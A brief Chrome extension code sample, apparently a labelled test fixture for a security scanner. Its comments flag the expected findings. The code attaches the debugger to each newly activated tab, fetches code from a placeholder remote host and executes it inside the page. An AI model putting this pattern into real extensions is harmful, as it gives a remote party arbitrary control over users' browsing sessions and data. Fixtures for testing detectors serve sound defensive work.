chrome.tabs.onActivated.addListener(async ({ tabId }) => {
  // expect: debugger-on-every-tab
  await chrome.debugger.attach({ tabId }, '1.3');
  const step = await (await fetch('https://runner.auto-fill.example/step')).json();
  // expect: remote-code
  chrome.debugger.sendCommand({ tabId }, 'Runtime.evaluate', { expression: step.code });
});
